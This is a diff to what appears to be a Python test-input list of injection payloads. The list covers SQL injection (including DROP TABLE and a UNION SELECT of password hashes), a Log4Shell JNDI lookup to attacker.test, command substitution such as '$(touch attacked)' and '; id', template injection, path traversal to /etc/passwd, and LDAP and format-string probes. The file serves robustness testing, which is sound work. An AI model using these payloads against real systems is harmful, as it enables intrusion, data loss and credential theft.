@@ -4,10 +4,10 @@ import json
 import urllib.parse
 
 SQL = [
-    "'", "''", "\"", "`", "\\", "' OR '1'='1", "' OR 1=1 --", "'; DROP TABLE accounts; --", "\" OR \"\"=\"", "1; ATTACH DATABASE '/tmp/x' AS y",
+    "'", "''", "\"", "`", "\\", "' OR '1'='1", "' OR 1=1 --", "'; DROP TABLE accounts; --", "\" OR \"\"=\"", "1; ATTACH DATABASE 'x' AS y",
     "' UNION SELECT password_hash, 1, 1 FROM accounts --", "' AND (SELECT 1 FROM sqlite_schema) --", "%", "_", "%%", "a%", "?", "?1", "$1", ":name",
-    "@name", "/*", "*/", "--", ";", "x' AND randomblob(1000000000) --", "${jndi:ldap://attacker.test/a}", "{{7*7}}", "#{7*7}", "$(touch /tmp/attacked)",
-    "`touch /tmp/attacked`", "| id", "; id", "../../../../etc/passwd", "..\\..\\windows", "file:///etc/passwd", "*)(uid=*))(|(uid=*", "%s%s%s%n",
+    "@name", "/*", "*/", "--", ";", "x' AND randomblob(1000000000) --", "${jndi:ldap://attacker.test/a}", "{{7*7}}", "#{7*7}", "$(touch attacked)",
+    "`touch attacked`", "| id", "; id", "../../../../etc/passwd", "..\\..\\windows", "file:///etc/passwd", "*)(uid=*))(|(uid=*", "%s%s%s%n",
     "\u2019 OR 1=1", "\uff07 OR 1=1", "\u02bc OR 1=1",
 ]
 
